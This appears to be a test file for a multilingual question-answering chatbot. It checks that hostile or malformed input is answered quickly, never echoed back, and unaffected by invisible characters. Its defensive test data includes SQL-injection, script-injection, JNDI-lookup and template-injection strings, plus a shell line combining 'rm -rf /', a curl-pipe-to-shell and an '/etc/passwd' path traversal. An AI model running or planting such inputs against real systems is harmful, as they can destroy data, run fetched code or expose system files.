@@ -1,0 +1,125 @@
+"""Whatever is sent as a question: an answer or a decline, soon, and nothing of it shown unescaped."""
+
+import json
+from time import thread_time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from bot.app.main import PAYLOADS
+from bot.dossier.loader import load
+from bot.dossier.models import Dossier
+from bot.matching.matcher import understanding
+from bot.replies.answer import answer
+from bot.replies.question import Words
+from bot.replies.reply import Reply
+from tests.conftest import CONTENT, TODAY
+
+_MOST_MS = 5.0
+_TRIES = 12
+"""The machine may be busy: the fastest of so many counts."""
+
+MARK = "zqxjkvb"
+"""Stands in every hostile question; no answer has it."""
+
+HOSTILE = [
+    f"{MARK} " * 1250,
+    MARK * 1430,
+    "ж" * 10_000,
+    "a b " * 2500,
+    "how long does it last? " * 435,
+    "".join(f"{char}\u200b" for char in "how long does it last") * 200,
+    "h\u0301\u0302\u0303\u0304o\u0305w" * 500,
+    f"\u202e{MARK}\u202d\u2066\u2069 \u200f\u061c tsal ti seod gnol woh",
+    "\u0000\u0001\u001b[31m\ufeff\uffff\ud800",
+    "🎉" * 500,
+    "👩‍👩‍👧‍👦🇮🇩🇷🇺" * 60,
+    f"'; DROP TABLE readers; -- {MARK}",
+    f"{MARK}' OR '1'='1",
+    f"<script>alert('{MARK}')</script><b>{MARK}</b>&amp;<a href='tg://user?id=1'>",
+    f"**{MARK}** [x](https://{MARK}.example) @everyone <@1> `{MARK}` ||{MARK}||",
+    f"$(rm -rf /) `{MARK}` && curl {MARK} | sh; ../../etc/passwd",
+    json.dumps({"q": MARK, "language": "xx", "__class__": {}}),
+    "{0.__class__} {fact_id} %s %(x)s {{7*7}} ${jndi:ldap://x}",
+    "1" * 5000,
+    "?" * 5000,
+    "\n" * 5000,
+    " ".join(f"{MARK[n % 7 :]}{MARK[: n % 5]}{n}x" for n in range(200)),
+    " ".join("".join(chr(0x430 + (7 * n + 11 * at) % 32) for at in range(4 + n % 7)) for n in range(200)),
+    "Z̷̛͇a͏͖l̵͓g̴o̶" * 300,
+]
+
+
+@pytest.fixture(scope="module")
+def dossier() -> Dossier:
+    """The real one, ready to be asked."""
+    dossier = load(CONTENT, TODAY).dossier
+    assert dossier is not None
+    understanding(dossier)
+    return dossier
+
+
+def ask(dossier: Dossier, text: str, language: str = "en") -> Reply:
+    return answer(dossier, Words(text), language, TODAY)
+
+
+class TestSoon:
+    """Nothing that is sent takes longer than a question."""
+
+    @pytest.mark.parametrize("language", ["en", "id", "ru"])
+    @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+    def test_in_under_five_milliseconds(self, dossier: Dossier, text: str, language: str) -> None:
+        """Of a processor's time: only the beginning of a long one is read."""
+        taken = []
+        for _ in range(_TRIES):
+            began = thread_time()
+            ask(dossier, text, language)
+            taken.append((thread_time() - began) * 1e3)
+        assert min(taken) < _MOST_MS
+
+
+class TestNothingEchoed:
+    """No platform's message has the question's words in it."""
+
+    @pytest.mark.parametrize("platform", sorted(PAYLOADS))
+    @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+    def test_on_any_platform(self, dossier: Dossier, text: str, platform: str) -> None:
+        """Not even escaped: a reply holds what editors wrote."""
+        sent = json.dumps(PAYLOADS[platform](ask(dossier, text)), ensure_ascii=False)
+        assert MARK not in sent
+        assert "<script" not in sent
+        assert "@everyone" not in sent
+
+
+class TestAnything:
+    """Any text is an answer or a decline."""
+
+    @given(st.text(max_size=400))
+    @settings(max_examples=300, deadline=None)
+    def test_any_characters(self, dossier: Dossier, text: str) -> None:
+        """Lone surrogates, controls and unassigned ones among them."""
+        reply = ask(dossier, text)
+        assert reply.heading
+        assert reply.topic in {None, *dossier.topics}
+
+    @given(st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=4), st.sampled_from(["en", "id", "ru", "xx", ""]))
+    @settings(max_examples=60, deadline=None)
+    def test_any_mixture_in_any_language(self, dossier: Dossier, parts: list[str], language: str) -> None:
+        """A language that the dossier does not have is its default one."""
+        assert ask(dossier, " ".join(part[:150] for part in parts), language).language in dossier.languages
+
+    @given(
+        st.sampled_from(["how long does it last", "berapa lama berlakunya", "сколько это действует"]),
+        st.lists(
+            st.tuples(st.sampled_from("\u200b\u200c\u2060\ufeff\u202e\u2066\u0489"), st.integers(0, 21)), max_size=8
+        ),
+    )
+    @settings(max_examples=100, deadline=None)
+    def test_invisible_characters_change_nothing(
+        self, dossier: Dossier, text: str, hidden: list[tuple[str, int]]
+    ) -> None:
+        """Zero-width and enclosing characters and overrides may stand anywhere in a question."""
+        for char, at in hidden:
+            text = text[:at] + char + text[at:]
+        assert ask(dossier, text).topic == "duration"
